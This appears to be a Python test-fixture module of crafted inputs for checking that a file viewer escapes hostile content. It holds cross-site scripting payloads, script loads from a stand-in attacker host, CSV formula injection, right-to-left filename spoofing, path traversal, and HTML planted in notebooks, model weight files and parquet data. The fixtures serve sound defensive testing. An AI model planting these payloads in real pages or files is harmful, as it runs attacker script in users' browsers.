"""What somebody writes who wants a browser to run it: texts, names, and files that hold nothing else."""

import json

import crafted

ALARM = "alert(document.domain)"

SCRIPTS = [
    f"<script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f'<a href="javascript:{ALARM}">here</a>',
    f'<a href=" &#14; javascript:{ALARM}">here</a>',
    f"<iframe srcdoc='<script>{ALARM}</script>'></iframe>",
    f"<details open ontoggle={ALARM}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ALARM}&gt;">',
    f"<form><input autofocus onfocus={ALARM}></form>",
    "<base href='//evil.example/'><script src=x></script>",
    f"[here](javascript:{ALARM})",
    f"[here](data:text/html,<script>{ALARM}</script>)",
    f'![x](x" onerror="{ALARM})',
    f"$\\href{{javascript:{ALARM}}}{{x}}$",
    f'```html"><script>{ALARM}</script>\nx\n```',
    "<style>@import 'http://evil.example/x';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<object data='data:text/html,<script>{ALARM}</script>'></object>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
]

# Of one line each: one that ends whatever an attribute, a script or a text field began, one that needs no such end.
BREAKS = f"\"'></textarea></title></script><script>{ALARM}</script>"
IMAGE = f"<img src=x onerror={ALARM}>"

# Turns round what stands behind it, up to the end of the line or of the element that keeps it in.
TURNS = "\u202e"

TURNING = [f"harmless{TURNS}txt.exe", f"a\u2066b\u2067c{TURNS}d.csv"]

NAMES = [
    f"{IMAGE}.txt",
    f'"onmouseover={ALARM} x=".txt',
    f"';{ALARM};'.txt",
    "javascript:alert(1).txt",
    f"{BREAKS.replace('/', '')}.txt",
    *TURNING,
    "#x?q=1&amp;100%25%.txt",
]

# A slash parts it into a folder and a file.
FOLDER, FILE = f"<script>{ALARM}<", "script>.txt"

_SVG = "http://www.w3.org/2000/svg"
SVG = f'<svg xmlns="{_SVG}" onload="{ALARM}"><script>{ALARM}</script><rect width="9" height="9"/></svg>'
HTML = (
    f"<!doctype html><html><body onload={ALARM}><script>{ALARM}</script><script src=script.js></script></body></html>"
)
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{ALARM}</script></head><body/></html>'

# Each is a document that a browser would run, were it sent as what its name says.
DOCUMENTS: dict[str, bytes | str] = {
    "page.html": HTML,
    "page.htm": HTML,
    "page.xhtml": XHTML,
    "page.xml": XHTML,
    "page.mhtml": f"MIME-Version: 1.0\nContent-Type: text/html\n\n{HTML}",
    "no-ending": HTML,
    "picture.svg": SVG,
    "script.js": ALARM,
    "script.mjs": ALARM,
    "data.json": json.dumps({"html": HTML}),
    "page.pdf": HTML,
    "page.png": HTML,
}

_TENSORS = [IMAGE, BREAKS, f"a{TURNS}b", *SCRIPTS[:4]]
_PAIRS = {"general.name": BREAKS, "general.architecture": IMAGE, IMAGE: BREAKS, BREAKS: "x", "long": BREAKS * 40}

# Each shows some of `SCRIPTS`, `BREAKS` or `IMAGE` on its page.
FORMATS: dict[str, bytes | str] = {
    "notes.md": "\n\n".join(SCRIPTS),
    "lines.py": "\n".join(["# " + text for text in SCRIPTS] + [f'"""{BREAKS}"""']),
    "table.csv": f'a,{BREAKS}\n{SCRIPTS[0]},"{IMAGE}"\n=cmd|calc,{TURNS}turned\n',
    "table.tsv": f"a\t{IMAGE}\n{SCRIPTS[0]}\t{IMAGE}\n",
    "rows.jsonl": "\n".join(json.dumps({IMAGE: text, "b": {BREAKS: [text]}}) for text in SCRIPTS),
    "rows.json": json.dumps([{BREAKS: IMAGE, "a": text} for text in SCRIPTS]),
    "object.json": json.dumps({BREAKS: IMAGE}),
    "book.ipynb": crafted.notebook([IMAGE, BREAKS, *SCRIPTS]),
    "w.safetensors": crafted.safetensors(_TENSORS, {"note": IMAGE, IMAGE: BREAKS, "format": "pt"}),
    "w.gguf": crafted.gguf(_TENSORS, _PAIRS | {"tokens": [IMAGE, BREAKS]}),
    "w.parquet": crafted.parquet(
        {IMAGE: [BREAKS, IMAGE], BREAKS: [*SCRIPTS[:2]]}, {"pandas": IMAGE, BREAKS: IMAGE}, IMAGE
    ),
    "broken.parquet": IMAGE.encode() * 9 + b"PAR1",
    "model.safetensors.index.json": json.dumps(
        {"metadata": {"total_size": BREAKS}, "weight_map": {IMAGE: "w.safetensors", BREAKS: f"../{IMAGE}.safetensors"}}
    ),
    "bytes.bin": IMAGE.encode() + bytes(range(128, 256)) + BREAKS.encode(),
}
